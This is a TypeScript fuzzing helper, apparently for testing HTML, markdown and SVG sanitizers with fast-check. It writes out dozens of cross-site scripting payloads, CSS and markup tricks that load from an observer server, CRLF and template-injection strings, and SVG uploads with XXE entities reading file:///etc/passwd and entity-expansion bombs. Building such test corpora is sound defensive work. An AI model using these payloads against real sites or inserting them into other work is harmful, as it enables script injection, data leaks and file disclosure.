import fc from "fast-check";

/** Pieces of texts that would run, load or break out, were they taken for markup. Our own. */
export interface Elsewhere {
  /** An address of another server, which notices whoever comes. */
  url: string;
}

/** What they all try to do: `attacked` tells the test, `elsewhere` is a server that nobody is to ask. */
function piecesFor({ url }: Elsewhere): string[] {
  const hit = `attacked(1)`;
  const host = url.replace(/^https?:/, "");
  return [
    `<script>${hit}</script>`,
    `<script src=${url}/a.js></script>`,
    `</script><script>${hit}</script>`,
    `</title><script>${hit}</script>`,
    `</style><script>${hit}</script>`,
    `</textarea><img src=x onerror=${hit}>`,
    `--><img src=x onerror=${hit}>`,
    `]]><img src=x onerror=${hit}>`,
    `"><img src="${url}/b.png" onerror="${hit}">`,
    `'><img src='${url}/c.png' onerror='${hit}'>`,
    `" onmouseover="${hit}" autofocus onfocus="${hit}`,
    `' onclick='${hit}`,
    `\` onload=${hit} \``,
    `<svg/onload=${hit}>`,
    `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${hit}>`,
    `<iframe src="${url}/d"></iframe>`,
    `<iframe srcdoc="<script>parent.${hit}</script>">`,
    `<object data="${url}/e"></object>`,
    `<embed src="${url}/f">`,
    `<link rel=stylesheet href=${host}/g.css>`,
    `<link rel="preload" as="image" href="${url}/h.png">`,
    `<meta http-equiv=refresh content="0;url=${url}/i">`,
    `<base href="${url}/">`,
    `<style>@import url(${url}/j.css)</style>`,
    `<style>*{background:url(${url}/k.png)}</style>`,
    `<form action="${url}/l"><input autofocus onfocus=${hit}>`,
    `<video poster=${url}/m.png><source onerror=${hit}></video>`,
    `<details open ontoggle=${hit}>`,
    `<a href="javascript:${hit}">x</a>`,
    `javascript:${hit}`,
    `JaVaScRiPt&colon;${hit}`,
    `java\tscript:${hit}`,
    `data:text/html,<script>${hit}</script>`,
    `vbscript:${hit}`,
    `${host}/n`,
    `/\\${url.slice(7)}/o`,
    `![x](${url}/p.png)`,
    `![x][r]\n\n[r]: ${url}/q.png`,
    `[x](javascript:${hit})`,
    `[x](&#106;avascript:${hit})`,
    `[x](data:text/html;base64,PHNjcmlwdD4=)`,
    `[x](${url} "\\" onmouseover=${hit} \\"")`,
    `<${url}/"onmouseover=${hit}>`,
    "```html\n<script>attacked(1)</script>\n```",
    `| a |\n|-|\n| <b onclick=${hit}> |`,
    `&lt;script&gt;${hit}&lt;/script&gt;`,
    `&#60;script&#62;${hit}&#60;/script&#62;`,
    `\\u003cscript\\u003e${hit}\\u003c/script\\u003e`,
    `\${${hit}}`,
    `{{constructor.constructor('${hit}')()}}`,
    `{__proto__} {constructor} {toString}`,
    `$& $\` $' $1 $$`,
    `%0a%0d<script>${hit}</script>`,
    `url(${url}/r.png)`,
    `expression(${hit})`,
    `;background:url(${url}/s.png);`,
    `}*{background:url(${url}/t.png)}`,
    `*/@import url(${url}/u.css);/*`,
    `";${hit};"`,
    `';${hit};'`,
    `\`;${hit};\``,
    `\u2028${hit}\u2029`,
    `\u202e${hit}\u202c`,
    `\u0000<script>${hit}</script>`,
    `\ufeff<script>${hit}</script>`,
    `＜script＞${hit}＜/script＞`,
    "\r\nSet-Cookie: a=b",
    "<!-- <![CDATA[ <!DOCTYPE",
    "</main></body></html>",
    "</div></div></article></main><h1>Out</h1>",
    `<template shadowrootmode=open><script>${hit}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
    `<input type=hidden oncontentvisibilityautostatechange=${hit} style=content-visibility:auto>`,
    "\u{1f9f5}\u{1faa1}\u{1f469}\u200d\u{1f52c}",
    "Z\u0351\u036b\u0343\u036a\u0302",
  ];
}

const BETWEEN = "< > \" ' ` & ; = ( ) [ ] { } / \\ # ! - _ * | : . , $ % ^ ~ \n \t".split(" ");

/** Texts of these pieces, whole, cut and mixed, with signs of markup and any others between. */
export function anyAttack(elsewhere: Elsewhere, maxPieces = 4): fc.Arbitrary<string> {
  const whole = fc.constantFrom(...piecesFor(elsewhere));
  const cut = fc
    .tuple(whole, fc.nat(60), fc.nat(60))
    .map(([piece, from, length]) => piece.slice(from % piece.length).slice(0, length + 1));
  const piece = fc.oneof(
    { weight: 5, arbitrary: whole },
    { weight: 2, arbitrary: cut },
    { weight: 2, arbitrary: fc.constantFrom(...BETWEEN) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  );
  return fc.array(piece, { minLength: 1, maxLength: maxPieces }).map((pieces) => pieces.join(""));
}

/** Drawings as they are sent for a logo, with one or two things in them that belong into none. */
export function anyDrawing({ url }: Elsewhere): fc.Arbitrary<string> {
  const shape = `<rect width="90" height="30" fill="#0a5"/>`;
  const inside = fc.constantFrom(
    ...[shape, "", `<text x="1" y="20">a</text>`, `<g id="a">${shape}</g><use href="#a"/>`],
    `<script>fetch("${url}/svg1")</script>`,
    `<script href="${url}/svg2.js"/>`,
    `<image href="${url}/svg3.png" width="9" height="9"/>`,
    `<image xlink:href="${url}/svg4.png" width="9" height="9"/>`,
    `<image href="file:///etc/passwd" width="9" height="9"/>`,
    `<use href="${url}/svg5.svg#a"/>`,
    `<feImage href="${url}/svg6.png"/>`,
    `<style>@import "${url}/svg7.css";</style>`,
    `<style>rect{fill:url(${url}/svg8.svg#a)}</style>`,
    `<style>@font-face{font-family:a;src:url(${url}/svg9.woff2)}text{font-family:a}</style>`,
    `<rect fill="url(${url}/svg10.svg#a)" width="9" height="9"/>`,
    `<rect filter="url('${url}/svg11.svg#a')" width="9" height="9"/>`,
    `<rect style="mask:u\\72l(${url}/svg12.svg#a)" width="9" height="9"/>`,
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/svg13"/></foreignObject>`,
    `<a href="javascript:attacked(1)">${shape}</a>`,
    `<a href="java&#x73;cript:attacked(1)">${shape}</a>`,
    `<set attributeName="href" to="${url}/svg14"/>`,
    `<animate onbegin="attacked(1)" attributeName="x"/>`,
    `<x:script xmlns:x="http://www.w3.org/2000/svg">attacked(1)</x:script>`,
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
    `&e;`,
    `<![CDATA[<script>attacked(1)</script>]]>`,
    `<image href="data:image/svg+xml,&lt;svg onload='attacked(1)'/&gt;" width="9" height="9"/>`,
  );
  const before = fc.constantFrom(
    ...["", "", "", `<?xml version="1.0"?>`, "<!-- a -->"],
    `<?xml-stylesheet href="${url}/svg15.css"?>`,
    `<!DOCTYPE svg SYSTEM "${url}/svg16.dtd">`,
    `<!DOCTYPE svg [<!ENTITY e SYSTEM "${url}/svg17">]>`,
    `<!DOCTYPE svg [<!ENTITY e "aaaaaaaaaa"><!ENTITY f "&e;&e;&e;&e;">]>`,
  );
  const attribute = fc.constantFrom("", "", "", `onload="attacked(1)"`, `width="1e9"`, `/`);
  return fc
    .tuple(before, attribute, fc.array(inside, { maxLength: 3 }))
    .map(
      ([start, more, parts]) =>
        `${start}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 30" ${more}>${parts.join("")}</svg>`,
    );
}
